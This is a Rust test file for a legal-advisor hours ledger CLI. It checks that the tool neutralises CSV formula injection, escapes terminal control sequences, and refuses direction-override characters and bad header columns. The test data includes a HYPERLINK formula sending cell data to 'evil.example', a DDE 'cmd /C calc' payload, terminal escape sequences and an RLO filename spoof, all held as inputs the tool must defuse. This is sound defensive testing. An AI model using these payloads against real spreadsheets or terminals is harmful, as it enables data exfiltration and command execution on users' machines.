//! What a user typed never attacks the spreadsheet or the terminal: formulas in CSV cells are
//! written quoted and read back exactly, control characters are shown escaped in everything
//! printed, direction overrides are refused, and a header naming a column twice, or no column at all, is refused.

#![allow(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

mod common;

use common::{Env, csv_rows, json};

const ADVISORS: &str = "id,name,category,unit\n\
    A001,张三,staff,管委会办公室\n\
    A002,-Minus,external,@律所\n";

/// Titles, a department and a note that a spreadsheet would run, and two that begin with a quote:
/// one before text (kept), one before a formula character (`''=…`, read as `'=…`: the import
/// takes off one quote, as it does from what counsel-log writes).
const FORMULA_ENTRIES: &str = "date,advisor,hours,item,title,topic,service,department,satisfaction,note\n\
    2024-03-01,A001,1.5,K1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\",labor,opinion,=DEPT(),,=1+1\n\
    2024-03-02,A001,1,K2,+cmd|' /C calc'!A0,labor,opinion,财政局,,\n\
    2024-03-03,A002,1,=K3,@SUM(A1:A2),labor,opinion,财政局,,-note\n\
    2024-03-04,A002,1,K4,'quoted title,labor,opinion,财政局,,\n\
    2024-03-05,A002,1,K5,''=kept as typed,labor,opinion,财政局,,\n";

const TITLES: [&str; 5] = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
    "'quoted title",
    "'=kept as typed",
];

fn stderr(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// The command must fail; returns its stderr, checked to hold no raw ESC or BEL.
fn refused(env: &Env, args: &[&str]) -> String {
    let out = env.run(args);
    assert!(!out.status.success(), "{args:?} succeeded");
    assert!(
        !out.stderr.contains(&0x1b) && !out.stderr.contains(&0x07),
        "raw control character in stderr of {args:?}: {:?}",
        stderr(&out)
    );
    stderr(&out)
}

fn formula_ledger() -> Env {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);
    let entries = env.write("entries.csv", FORMULA_ENTRIES);
    env.ok(&["import", "entries", entries.to_str().unwrap()]);
    env
}

/// The titles in the ledger (from the JSON export), sorted.
fn titles(env: &Env) -> Vec<String> {
    let export = json(&env.export_json());
    let mut titles: Vec<String> = export["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap().to_string())
        .collect();
    titles.sort();
    titles
}

#[test]
fn formula_cells_are_written_after_a_quote_and_imported_as_typed() {
    let env = formula_ledger();
    let mut expected: Vec<String> = TITLES.iter().map(|t| t.to_string()).collect();
    expected.sort();
    assert_eq!(titles(&env), expected, "imported as typed");

    let export = env.ok(&["export", "--format", "csv", "-"]);
    let rows = csv_rows(&export);
    let title_cells: Vec<&str> = rows.iter().map(|r| r["title"].as_str()).collect();
    for (typed, written) in [
        (TITLES[0], format!("'{}", TITLES[0])),
        (TITLES[1], format!("'{}", TITLES[1])),
        (TITLES[2], format!("'{}", TITLES[2])),
        // A quote before text is left alone; before a formula it is doubled, so it comes back.
        (TITLES[3], TITLES[3].to_string()),
        (TITLES[4], format!("'{}", TITLES[4])),
    ] {
        assert!(
            title_cells.contains(&written.as_str()),
            "{typed:?} not written as {written:?}: {title_cells:?}"
        );
    }
    let first = rows.iter().find(|r| r["item"] == "K1").unwrap();
    assert_eq!(first["department"], "'=DEPT()");
    assert_eq!(first["note"], "'=1+1");
    assert!(
        rows.iter()
            .any(|r| r["item"] == "'=K3" && r["note"] == "'-note")
    );
    assert!(rows.iter().any(|r| r["advisor"] == "A002"));

    let report = env.ok(&[
        "report",
        "--period",
        "2024",
        "--by",
        "department",
        "--format",
        "csv",
    ]);
    let labels: Vec<String> = csv_rows(&report)
        .into_iter()
        .map(|r| r["label"].clone())
        .collect();
    assert!(labels.contains(&"'=DEPT()".to_string()), "{labels:?}");
    assert!(!labels.iter().any(|l| l.starts_with('=')), "{labels:?}");

    let advisors = env.ok(&["advisor", "list", "--format", "csv"]);
    let rows = csv_rows(&advisors);
    let minus = rows.iter().find(|r| r["id"] == "A002").unwrap();
    assert_eq!(minus["name"], "'-Minus");
    assert_eq!(minus["unit"], "'@律所");
}

#[test]
fn an_export_imported_into_a_new_store_is_the_same_ledger_and_the_same_file() {
    let env = formula_ledger();
    let roster = env.ok(&["advisor", "list", "--format", "csv"]);
    let export = env.ok(&["export", "--format", "csv", "-"]);
    let other = env.path("other");
    let roster_file = env.write("roster.csv", &roster);
    let export_file = env.write("export.csv", &export);
    env.ok_on(
        &other,
        &["import", "advisors", roster_file.to_str().unwrap()],
    );
    env.ok_on(
        &other,
        &["import", "entries", export_file.to_str().unwrap()],
    );

    assert_eq!(
        env.ok_on(&other, &["export", "--format", "csv", "-"]),
        export
    );
    assert_eq!(
        env.ok_on(&other, &["advisor", "list", "--format", "csv"]),
        roster
    );
    let there = json(&env.ok_on(&other, &["export", "--format", "json", "-"]));
    let mut there_titles: Vec<&str> = there["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["title"].as_str().unwrap())
        .collect();
    there_titles.sort_unstable();
    assert_eq!(there_titles, titles(&env));
    let names: Vec<&str> = there["advisors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["name"].as_str().unwrap())
        .collect();
    assert!(names.contains(&"-Minus"), "{names:?}");
}

#[test]
fn a_header_naming_a_column_twice_is_refused_naming_both() {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);
    for (header, row, named) in [
        (
            "date,advisor,hours,hours,item,title,topic,service,department,satisfaction,note",
            "2024-03-01,A001,1.5,9.0,,t,labor,opinion,d,,",
            "the hours column twice: column 3 \"hours\" and column 4 \"hours\"",
        ),
        (
            "date,advisor,hours,小时,item,title,topic,service,department,satisfaction,note",
            "2024-03-01,A001,1.5,9.0,,t,labor,opinion,d,,",
            "the hours column twice: column 3 \"hours\" and column 4 \"小时\"",
        ),
        (
            "date,advisor,hours,item,title,topic,service,department,satisfaction,note,note",
            "2024-03-01,A001,1.5,,t,labor,opinion,d,,a,b",
            "the note column twice: column 10 \"note\" and column 11 \"note\"",
        ),
        (
            "备注,date,advisor,hours,item,title,topic,service,department,satisfaction,Note",
            "a,2024-03-01,A001,1.5,,t,labor,opinion,d,,b",
            "the note column twice: column 1 \"备注\" and column 11 \"Note\"",
        ),
    ] {
        let file = env.write("twice.csv", format!("{header}\n{row}\n"));
        let said = refused(&env, &["import", "entries", file.to_str().unwrap()]);
        assert!(said.contains(named), "{header}: {said}");
        assert!(said.contains("nothing was imported"), "{said}");
        let zh = env.run_in("zh", &["import", "entries", file.to_str().unwrap()]);
        assert!(stderr(&zh).contains("表头两次给出"), "{}", stderr(&zh));
    }
    assert_eq!(env.summary_json("2024")["minutes"].as_u64(), Some(0));

    for (text, named) in [
        (
            "id,name,name,category,unit\nA009,甲,乙,staff,u\n",
            "the name column twice: column 2 \"name\" and column 3 \"name\"",
        ),
        (
            "id,name,category,unit,部门\nA009,甲,staff,u,v\n",
            "the unit column twice: column 4 \"unit\" and column 5 \"部门\"",
        ),
    ] {
        let file = env.write("roster.csv", text);
        let said = refused(&env, &["import", "advisors", file.to_str().unwrap()]);
        assert!(said.contains(named), "{said}");
    }
    let roster = env.ok(&["advisor", "list", "--format", "json"]);
    assert!(!roster.contains("A009"), "{roster}");
}

#[test]
fn a_header_cell_naming_no_column_is_refused_with_the_column_it_likely_meant() {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);
    let misspelt = env.write(
        "typo.csv",
        "date,advisor,hours,item,title,topic,service,department,satisfation,note\n\
         2024-03-30,A001,1,NEWKEY-1,Typo test,labor,opinion,财政局,不满意,important note\n",
    );
    let said = refused(&env, &["import", "entries", misspelt.to_str().unwrap()]);
    assert!(
        said.contains("column 9 of the header, \"satisfation\", is not a column of the entries file (did you mean satisfaction?)")
            && said.contains("nothing was imported"),
        "{said}"
    );
    let zh = env.run_in("zh", &["import", "entries", misspelt.to_str().unwrap()]);
    assert!(
        stderr(&zh)
            .contains("表头第 9 列“satisfation”不是记录文件的列，是否应为 satisfaction（满意度）"),
        "{}",
        stderr(&zh)
    );
    // A column nothing like any is named without a guess; a blank trailing one is let be.
    let extra = env.write(
        "extra.csv",
        "date,advisor,hours,item,title,topic,service,department,satisfaction,note,remarks\n\
         2024-03-30,A001,1,,t,labor,opinion,财政局,,,x\n",
    );
    let said = refused(&env, &["import", "entries", extra.to_str().unwrap()]);
    assert!(
        said.contains("column 11 of the header, \"remarks\", is not a column of the entries file:"),
        "{said}"
    );
    assert_eq!(env.summary_json("2024")["minutes"].as_u64(), Some(0));
    let blank = env.write(
        "blank.csv",
        "date,advisor,hours,item,title,topic,service,department,satisfaction,note,\n\
         2024-03-30,A001,1,,t,labor,opinion,财政局,,,\n",
    );
    env.ok(&["import", "entries", blank.to_str().unwrap()]);
    assert_eq!(env.summary_json("2024")["minutes"].as_u64(), Some(60));
    // An advisor file's misspelt `active` would make a departed advisor count as active.
    let roster = env.write(
        "roster.csv",
        "id,name,category,unit,actve\nA009,甲,staff,u,no\n",
    );
    let said = refused(&env, &["import", "advisors", roster.to_str().unwrap()]);
    assert!(
        said.contains("\"actve\", is not a column of the advisors file (did you mean active?)"),
        "{said}"
    );
    assert!(
        !env.ok(&["advisor", "list", "--format", "json"])
            .contains("A009")
    );
}

/// `log` for A001 with one flag replaced.
fn log_with(flag: &str, value: &str) -> Vec<String> {
    let mut args: Vec<String> = [
        "log",
        "--advisor",
        "A001",
        "--hours",
        "1.5",
        "--topic",
        "labor",
        "--service",
        "opinion",
        "--department",
        "财政局",
        "--title",
        "合同审核",
        "--date",
        "2024-03-05",
    ]
    .map(String::from)
    .to_vec();
    let at = args.iter().position(|a| a == flag).unwrap() + 1;
    args[at] = value.to_string();
    args
}

const EVIL: &str = "A0\u{1b}]0;pwned\u{7}01";
const SHOWN: &str = "A0\\u{1b}]0;pwned\\u{7}01";

#[test]
fn values_echoed_in_errors_show_their_control_characters_escaped() {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);

    let file = env.write(
        "evil.csv",
        format!(
            "date,advisor,hours,item,title,topic,service,department,satisfaction,note\n\
             2024-03-01,{EVIL},1,,t,labor,opinion,d,,\n"
        ),
    );
    let said = refused(&env, &["import", "entries", file.to_str().unwrap()]);
    assert!(
        said.contains(&format!("unknown advisor \"{SHOWN}\"")),
        "{said}"
    );

    for flag in ["--advisor", "--topic", "--hours", "--date"] {
        let args = log_with(flag, EVIL);
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let said = refused(&env, &args);
        assert!(said.contains(SHOWN), "{flag}: {said}");
    }
    let said = refused(&env, &["report", "--period", EVIL]);
    assert!(said.contains(SHOWN), "{said}");
    let said = refused(&env, &["summary", "--period", EVIL]);
    assert!(said.contains(SHOWN), "{said}");

    // Paths named on the command line.
    let missing = env.path(EVIL);
    let said = refused(&env, &["import", "entries", missing.to_str().unwrap()]);
    assert!(said.contains(SHOWN), "{said}");
    let nowhere = env.path(EVIL).join("out.csv");
    let said = refused(
        &env,
        &["export", "--format", "csv", nowhere.to_str().unwrap()],
    );
    assert!(said.contains(SHOWN), "{said}");
    // A value clap itself refuses (clap drops the escape sequence itself).
    let said = refused(&env, &["report", "--by", EVIL]);
    assert!(said.contains("invalid value"), "{said}");

    // A newline inside a value is escaped too: each message stays on its line.
    let args = log_with("--hours", "1\ncounsel-log: Saved entry #1");
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let said = refused(&env, &args);
    assert_eq!(said.lines().count(), 1, "{said}");
    assert!(said.contains("1\\u{a}counsel-log"), "{said}");
    assert_eq!(env.summary_json("2024")["minutes"].as_u64(), Some(0));
}

#[test]
fn names_with_line_breaks_are_shown_escaped_in_what_is_printed() {
    let env = Env::new();
    let added = env.ok(&[
        "advisor",
        "add",
        "--id",
        "A003",
        "--name",
        "王\nSaved entry #9",
        "--category",
        "staff",
    ]);
    assert_eq!(added.lines().count(), 1, "{added}");
    assert!(added.contains("王\\u{a}Saved entry #9"), "{added}");
    let list = env.ok(&["advisor", "list"]);
    assert!(list.contains("王\\u{a}Saved entry #9"), "{list}");
    let logged = env.ok(&log_with("--advisor", "A003")[..]
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>());
    assert!(logged.starts_with("Saved entry #1"), "{logged}");
    let report = env.ok(&["report", "--period", "2024"]);
    assert!(report.contains("王\\u{a}Saved entry #9"), "{report}");

    env.ok(&[
        "catalog",
        "add",
        "--kind",
        "topic",
        "--code",
        "ecology",
        "--zh",
        "生态\n环境",
        "--en",
        "eco\nlogy",
    ]);
    let mut args = log_with("--topic", "ecology");
    args[2] = "A003".into();
    env.ok(&args.iter().map(String::as_str).collect::<Vec<_>>());
    let summary = env.ok(&["summary", "--period", "2024"]);
    assert_eq!(summary.lines().count(), 1, "{summary}");
    assert!(summary.contains("eco\\u{a}logy"), "{summary}");
}

const OVERRIDE: &str = "\u{202E}gpj.exe";

#[test]
fn direction_overrides_are_refused_in_entries_imported_or_logged() {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);
    let overridden = "the title contains an invisible direction override (U+202E)";

    let file = env.write(
        "bidi.csv",
        format!(
            "date,advisor,hours,item,title,topic,service,department,satisfaction,note\n\
             2024-03-01,A001,1,,{OVERRIDE},labor,opinion,d,,\n"
        ),
    );
    let said = refused(&env, &["import", "entries", file.to_str().unwrap()]);
    assert!(said.contains(overridden), "{said}");
    assert!(!said.contains('\u{202E}'), "{said}");

    for (flag, field) in [("--title", "title"), ("--department", "department")] {
        let args = log_with(flag, "a\u{2067}b");
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        let said = refused(&env, &args);
        assert!(
            said.contains(&format!(
                "the {field} contains an invisible direction override (U+2067)"
            )),
            "{said}"
        );
    }
    let mut note = log_with("--title", "t");
    note.extend(["--note".to_string(), "x\u{202A}".to_string()]);
    let note: Vec<&str> = note.iter().map(String::as_str).collect();
    assert!(refused(&env, &note).contains("(U+202A)"));
}

#[test]
fn direction_overrides_are_refused_in_advisors_catalogs_and_reasons() {
    let env = Env::new();
    let advisors = env.write("advisors.csv", ADVISORS);
    env.ok(&["import", "advisors", advisors.to_str().unwrap()]);
    let roster = env.write(
        "roster.csv",
        "id,name,category,unit\nA009,\u{202D}甲,staff,u\nA010,乙,staff,\u{2066}u\n",
    );
    let said = refused(&env, &["import", "advisors", roster.to_str().unwrap()]);
    assert!(
        said.contains("the name contains an invisible direction override (U+202D)"),
        "{said}"
    );
    assert!(
        said.contains("the unit contains an invisible direction override (U+2066)"),
        "{said}"
    );

    let add = [
        "advisor",
        "add",
        "--id",
        "A011",
        "--category",
        "staff",
        "--name",
    ];
    let said = refused(&env, &[&add[..], &[OVERRIDE]].concat());
    assert!(said.contains("(U+202E)"), "{said}");
    let said = refused(
        &env,
        &["advisor", "set", "--id", "A001", "--unit", OVERRIDE],
    );
    assert!(said.contains("(U+202E)"), "{said}");
    let said = refused(
        &env,
        &[
            "catalog", "add", "--kind", "topic", "--code", "ecology", "--zh", "生态", "--en",
            OVERRIDE,
        ],
    );
    assert!(said.contains("(U+202E)"), "{said}");

    env.ok(&log_with("--title", "t")
        .iter()
        .map(String::as_str)
        .collect::<Vec<_>>());
    let said = refused(
        &env,
        &["correct", "1", "--hours", "1", "--reason", OVERRIDE],
    );
    assert!(said.contains("(U+202E)"), "{said}");
    env.ok(&["close", "2024-03"]);
    let said = refused(&env, &["reopen", "2024-03", "--reason", OVERRIDE]);
    assert!(said.contains("(U+202E)"), "{said}");
    let said = refused(&env, &["identity", "--name", OVERRIDE]);
    assert!(said.contains("U+202E"), "{said}");
    assert_eq!(env.summary_json("2024")["minutes"].as_u64(), Some(90));
}

#[test]
fn a_configured_name_with_control_or_direction_characters_is_refused() {
    let env = Env::new();
    env.import_demo();
    let before = env.audit_len();
    for (name, code) in [
        ("Mallory\\u001b]0;pwned\\u0007\\u001b[2J", "U+001B"),
        ("Mallory\\u202eX", "U+202E"),
        ("Mallory\\u009b31m", "U+009B"),
    ] {
        let config = env.write("evil.toml", format!("name = \"{name}\"\n"));
        let out = env.run(&[
            "--config",
            config.to_str().unwrap(),
            "advisor",
            "add",
            "--id",
            "Z1",
            "--name",
            "Zed",
            "--category",
            "staff",
        ]);
        let err = stderr(&out);
        assert!(!out.status.success(), "{name}: accepted");
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        for part in ["evil.toml", "key `name`", code] {
            assert!(err.contains(part), "{name}: {part:?}: {err}");
        }
        assert!(
            !err.contains('\u{1b}') && !err.contains('\u{202e}'),
            "{err}"
        );
    }
    assert_eq!(env.audit_len(), before, "nothing reached the audit trail");
    let config = env.write("good.toml", "name = \"  王律师 \"\n");
    env.ok(&["--config", config.to_str().unwrap(), "advisor", "list"]);
}
